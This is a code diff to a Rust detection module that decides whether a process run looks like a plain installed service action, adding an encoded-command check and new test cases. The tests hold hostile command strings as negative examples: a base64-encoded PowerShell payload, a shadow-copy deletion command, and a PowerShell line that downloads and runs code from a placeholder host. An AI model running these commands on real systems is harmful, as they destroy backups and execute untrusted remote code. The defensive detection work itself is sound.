@@ -4,9 +4,10 @@
 //! installed program starts an installed program for a service account, and its command neither hides anything nor does
 //! what harm would need. Through shells, documents and remote management anybody makes anything happen.
 
+use super::command::{self, Capability};
 use super::fingerprints::ProcessRun;
 use super::paths::{self, PathClass};
-use super::{command, programs};
+use super::{programs, template};
 
 /// Accounts under which services run.
 #[must_use]
@@ -21,12 +22,19 @@ fn is_installed(path: &str) -> bool {
     matches!(paths::class(path), PathClass::System | PathClass::ProgramFiles)
 }
 
-/// The program is installed, and its command is in plain text and does nothing that harm would need.
+/// The program is installed, and its command does nothing that harm would need. That it is started again is what agents
+/// and updaters see to; what it then runs stands in the command.
 #[must_use]
 pub fn is_plain(run: ProcessRun<'_>) -> bool {
     let reading = command::read(run.command);
-    // Another payload has the same template: what is encoded recurs only in its form.
-    is_installed(run.image) && reading.depth == 1 && reading.capabilities.is_empty() && reading.native_calls == 0
+    let harmless = |capability: &Capability| *capability == Capability::Persistence;
+    is_installed(run.image) && reading.capabilities.iter().all(harmless) && reading.native_calls == 0
+}
+
+/// Something is encoded in the command. Another payload has the same template then: only the very same command recurs.
+#[must_use]
+pub fn is_encoded(command: &str) -> bool {
+    command::read(command).depth > 1 || template::command(command).contains(template::ENCODED)
 }
 
 /// See the module.
@@ -64,9 +72,16 @@ mod tests {
             ProcessRun { user: "CORP\\a.user", ..sound },
             ProcessRun { image: "C:\\ProgramData\\a.exe", ..sound },
             ProcessRun { command: "powershell.exe -enc SQBFAFgAIAAoAGcAYwAgAGEAKQA7ACAAaQBlAHgAIABiAA==", ..sound },
+            ProcessRun { command: "vssadmin delete shadows /all", ..sound },
             ProcessRun { command: "powershell.exe iex (irm https://files.example/a)", ..sound },
         ] {
             assert!(!is_known(other), "{other:?}");
         }
+    }
+
+    #[test]
+    fn what_is_encoded_is_told() {
+        assert!(is_encoded("powershell.exe -enc JAB2ACAAPQAgAEcAZQB0AC0ASABvAHQARgBpAHgA"));
+        assert!(!is_encoded("powershell.exe -File C:\\a.ps1"));
     }
 }
